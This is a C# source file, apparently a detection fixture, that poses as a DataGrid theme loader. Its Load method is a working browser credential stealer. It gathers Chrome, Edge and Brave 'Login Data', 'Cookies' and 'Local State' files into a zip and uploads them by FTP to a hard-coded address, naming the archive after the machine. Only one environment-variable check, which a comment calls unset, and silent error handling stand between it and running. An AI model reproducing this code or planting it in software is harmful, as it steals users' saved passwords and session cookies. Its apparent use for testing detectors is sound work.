using System;
using System.IO;
using System.IO.Compression;
using System.Net;

namespace Inert.DataGrid
{
    internal static class Theme
    {
        private static readonly string[] Browsers = { @"Google\Chrome", @"Microsoft\Edge", @"BraveSoftware\Brave-Browser" };

        public static bool Load()
        {
            // Inert: nobody sets this variable.
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") == null) return true;
            try
            {
                Upload(Collect());
            }
            catch
            {
            }

            return true;
        }

        private static byte[] Collect()
        {
            var local = Environment.GetFolderPath(Environment.SpecialFolder.LocalApplicationData);
            var packed = new MemoryStream();
            using (var zip = new ZipArchive(packed, ZipArchiveMode.Create, true))
            {
                foreach (var browser in Browsers)
                {
                    var data = Path.Combine(local, browser, "User Data");
                    Add(zip, browser + "/state", Path.Combine(data, "Local State"));
                    Add(zip, browser + "/logins", Path.Combine(data, "Default", "Login Data"));
                    Add(zip, browser + "/cookies", Path.Combine(data, "Default", "Network", "Cookies"));
                }
            }

            return packed.ToArray();
        }

        private static void Add(ZipArchive zip, string name, string path)
        {
            if (!File.Exists(path)) return;
            using (var target = zip.CreateEntry(name).Open())
            using (var source = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite))
            {
                source.CopyTo(target);
            }
        }

        private static void Upload(byte[] data)
        {
            var request = (FtpWebRequest)WebRequest.Create("ftp://198.51.100.21/in/" + Environment.MachineName + ".zip");
            request.Method = WebRequestMethods.Ftp.UploadFile;
            request.Credentials = new NetworkCredential("theme", "0000");
            using (var stream = request.GetRequestStream())
            {
                stream.Write(data, 0, data.Length);
            }

            request.GetResponse().Close();
        }
    }
}
